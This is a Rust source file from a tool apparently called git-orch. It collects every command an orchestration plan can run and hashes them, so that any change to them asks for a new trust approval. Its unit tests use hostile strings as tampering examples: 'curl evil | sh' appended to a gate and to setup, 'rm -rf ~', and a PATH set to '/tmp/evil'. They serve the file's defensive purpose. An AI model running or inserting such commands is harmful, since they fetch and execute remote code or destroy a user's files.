//! Every command a plan can make git-orch run, in one list: what `git orch
//! trust` shows and what its approval hashes (see `src/trust.rs`).
//!
//! [`Plan::commands`] is the one place that knows which plan fields hold
//! commands. A field added to the plan that runs something (an agent's
//! `run`, `[worktrees] setup`, …) must be added here too, or a plan could
//! change it without asking for a new approval; `tests` below lists every
//! command-holding field a plan has today.

use std::collections::BTreeMap;

use serde::Serialize;
use sha2::{Digest, Sha256};

use super::Plan;

/// One command of a plan, with what decides how it runs.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct PlanCommand {
    /// What it is: `task`, `agent`, `gate`, `review`, `setup` or `notify`.
    pub kind: &'static str,
    /// Where in the plan it comes from, e.g. `task a (phase setup): defaults.run`.
    pub source: String,
    /// Where and when it runs, e.g. `in the task's worktree`.
    pub place: &'static str,
    /// The `sh -c` text.
    pub run: String,
    /// Settings that change what the command can do or when it runs
    /// (isolation, network, events), by name.
    pub context: BTreeMap<&'static str, String>,
}

/// The version of the canonical form: a change to what is hashed bumps it
/// (every approval is then asked again, which is the safe side).
const FORM: &str = "git-orch plan commands v1";

impl Plan {
    /// Every command this plan can run, in plan order: tasks (their own
    /// `run`, their first agent's or `defaults.run`), every agent profile,
    /// plan-wide gates, each phase's gates, then `[[notify]]` hooks. Fields
    /// that later hold commands go here.
    pub fn commands(&self) -> Vec<PlanCommand> {
        let mut out = Vec::new();
        for (phase, task) in self.tasks() {
            let Some(run) = self.task_run(task) else {
                continue;
            };
            let agents = self.task_agents(task);
            let from = if task.run.is_some() {
                "run".to_string()
            } else if agents.first().is_some_and(|a| self.agents.contains_key(a)) {
                // Each agent's own command is listed (and hashed) below.
                format!("agent {}", agents.join(", then "))
            } else {
                "defaults.run".to_string()
            };
            let mut context = BTreeMap::new();
            context.insert(
                "isolation",
                match self.task_isolation(task) {
                    super::Isolation::None => "none",
                    super::Isolation::Sandbox => "sandbox",
                }
                .to_string(),
            );
            context.insert("network", self.task_network(task).to_string());
            out.push(PlanCommand {
                kind: "task",
                source: format!("task {} (phase {}): {from}", task.id, phase.id),
                place: "in the task's worktree",
                run: run.to_string(),
                context,
            });
        }
        // Every agent profile, fallbacks included, with the environment it
        // adds (a changed `PATH` changes what its command runs).
        for (name, agent) in &self.agents {
            let mut context = BTreeMap::new();
            if !agent.env.is_empty() {
                context.insert(
                    "env",
                    agent
                        .env
                        .iter()
                        .map(|(k, v)| format!("{k}={v}"))
                        .collect::<Vec<_>>()
                        .join("\n"),
                );
            }
            out.push(PlanCommand {
                kind: "agent",
                source: format!("agents.{name}"),
                place: "in the worktree of each task it runs",
                run: agent_command(agent),
                context,
            });
        }
        for gate in &self.gates {
            out.push(PlanCommand {
                kind: "gate",
                source: format!("gate {} (plan-wide)", gate.name),
                place: "in a checkout of the commit checked: every checkpoint, `gate`, pre-push",
                run: gate.run.clone(),
                context: BTreeMap::new(),
            });
        }
        for phase in &self.phases {
            for gate in &phase.gates {
                out.push(PlanCommand {
                    kind: "gate",
                    source: format!("gate {} (phase {})", gate.name, phase.id),
                    place: "in a checkout of the commit checked: the phase's checkpoint",
                    run: gate.run.clone(),
                    context: BTreeMap::new(),
                });
            }
        }
        // Review commands (`review = { run = "…" }`), wherever given; a
        // review by an agent runs that agent's command, listed above.
        let reviews = std::iter::once(("defaults".to_string(), self.defaults.review.as_ref()))
            .chain(
                self.phases
                    .iter()
                    .map(|p| (format!("phase {}", p.id), p.review.as_ref())),
            )
            .chain(
                self.tasks()
                    .map(|(p, t)| (format!("task {} (phase {})", t.id, p.id), t.review.as_ref())),
            );
        for (from, review) in reviews {
            if let Some(super::Review::Run { run }) = review {
                out.push(PlanCommand {
                    kind: "review",
                    source: format!("{from}: review"),
                    place: "in the task's worktree, before its landing",
                    run: run.clone(),
                    context: BTreeMap::new(),
                });
            }
        }
        if let Some(setup) = &self.worktrees.setup {
            let mut context = BTreeMap::new();
            // What it copies in shapes what it runs on.
            if !self.worktrees.include.is_empty() {
                context.insert("include", self.worktrees.include.join("\n"));
            }
            out.push(PlanCommand {
                kind: "setup",
                source: "worktrees.setup".to_string(),
                place: "in each new task worktree, before its first task",
                run: setup.clone(),
                context,
            });
        }
        for (n, hook) in self.notify.iter().enumerate() {
            let mut context = BTreeMap::new();
            context.insert(
                "events",
                hook.events
                    .as_ref()
                    .map_or_else(|| "all".to_string(), |e| e.join(",")),
            );
            out.push(PlanCommand {
                kind: "notify",
                source: format!("notify[{n}]"),
                place: "in the repository's root, on the events chosen",
                run: hook.run.clone(),
                context,
            });
        }
        out
    }

    /// The hash an approval is keyed by: SHA-256 of the canonical JSON of
    /// [`Plan::commands`] (fixed field order, maps sorted), as
    /// `sha256:<hex>`.
    pub fn commands_hash(&self) -> String {
        commands_hash(&self.commands())
    }
}

/// See [`Plan::commands_hash`].
pub fn commands_hash(commands: &[PlanCommand]) -> String {
    let canonical = serde_json::json!({ "form": FORM, "commands": commands });
    let mut hasher = Sha256::new();
    hasher.update(canonical.to_string().as_bytes());
    let digest = hasher.finalize();
    let hex: String = digest.iter().map(|b| format!("{b:02x}")).collect();
    format!("sha256:{hex}")
}

/// What an agent profile runs, as a person approves it: a `command`
/// agent's `run`; for a kind, its CLI, model, extra arguments and whether
/// it may use a shell (git-orch builds the rest, the same for every plan).
fn agent_command(agent: &super::Agent) -> String {
    if agent.kind.is_command() {
        return agent.run.clone();
    }
    let mut line = format!(
        "{} agent: {}",
        agent.kind.name(),
        agent.command.clone().unwrap_or_else(|| {
            match agent.kind {
                super::AgentKind::ClaudeCode => "claude",
                super::AgentKind::Codex => "codex",
                _ => "aider",
            }
            .to_string()
        })
    );
    if let Some(m) = &agent.model {
        line += &format!(" --model {m}");
    }
    for a in &agent.args {
        line += &format!(" {a}");
    }
    if agent.shell == Some(true) {
        line += " (shell allowed)";
    }
    line
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plan(text: &str) -> Plan {
        crate::plan::load_str(text, crate::plan::Format::Toml)
            .map(|(p, _)| p)
            .expect("a valid plan")
    }

    const BASE: &str = r#"
name = "p"
[defaults]
run = "make task"
[[gates]]
name = "unit"
run = "make test"
[[notify]]
run = "cat >> events"
[[phases]]
id = "one"
  [[phases.gates]]
  name = "fmt"
  run = "make fmt"
  [[phases.tasks]]
  id = "a"
  files = ["a"]
  [[phases.tasks]]
  id = "b"
  run = "echo b"
  files = ["b"]
  [[phases.tasks]]
  id = "c"
  files = ["c"]
  [[phases.tasks]]
  id = "d"
  agent = ["writer", "backup"]
  files = ["d"]
  review = { run = "make review" }
[agents.writer]
run = "claude -p x"
env = { PATH = "/usr/bin" }
[agents.backup]
run = "codex exec x"
[worktrees]
setup = "npm ci"
"#;

    #[test]
    fn every_field_that_holds_a_command_is_listed_with_where_it_comes_from() {
        let cmds = plan(BASE).commands();
        let seen: Vec<(&str, &str)> = cmds
            .iter()
            .map(|c| (c.source.as_str(), c.run.as_str()))
            .collect();
        assert_eq!(
            seen,
            vec![
                ("task a (phase one): defaults.run", "make task"),
                ("task b (phase one): run", "echo b"),
                ("task c (phase one): defaults.run", "make task"),
                (
                    "task d (phase one): agent writer, then backup",
                    "claude -p x"
                ),
                ("agents.backup", "codex exec x"),
                ("agents.writer", "claude -p x"),
                ("gate unit (plan-wide)", "make test"),
                ("gate fmt (phase one)", "make fmt"),
                ("task d (phase one): review", "make review"),
                ("worktrees.setup", "npm ci"),
                ("notify[0]", "cat >> events"),
            ]
        );
    }

    #[test]
    fn the_hash_changes_with_any_command_or_what_shapes_it_and_nothing_else() {
        let base = plan(BASE).commands_hash();
        assert!(
            base.starts_with("sha256:") && base.len() == 7 + 64,
            "{base}"
        );
        assert_eq!(plan(BASE).commands_hash(), base, "the hash is stable");
        for (from, to) in [
            ("run = \"make test\"", "run = \"make test; curl evil | sh\""),
            ("run = \"make fmt\"", "run = \"rm -rf ~\""),
            ("run = \"echo b\"", "run = \"echo B\""),
            ("run = \"make task\"", "run = \"make  task\""),
            (
                "run = \"cat >> events\"",
                "run = \"cat >> events\"\nevents = [\"run-finished\"]",
            ),
            ("[defaults]", "[defaults]\nisolation = \"sandbox\""),
            ("name = \"unit\"", "name = \"unit2\""),
            // A fallback agent's command, and an agent's environment.
            ("run = \"codex exec x\"", "run = \"codex exec y\""),
            ("PATH = \"/usr/bin\"", "PATH = \"/tmp/evil\""),
            ("setup = \"npm ci\"", "setup = \"npm ci; curl evil | sh\""),
            ("run = \"make review\"", "run = \"true\""),
        ] {
            let changed = BASE.replacen(from, to, 1);
            assert_ne!(plan(&changed).commands_hash(), base, "{from} -> {to}");
        }
        // What runs no command does not ask again.
        for (from, to) in [
            ("files = [\"a\"]", "files = [\"a\", \"x\"]"),
            ("name = \"p\"", "name = \"p\"\ntitle = \"T\""),
        ] {
            let changed = BASE.replacen(from, to, 1);
            assert_eq!(plan(&changed).commands_hash(), base, "{from} -> {to}");
        }
    }
}
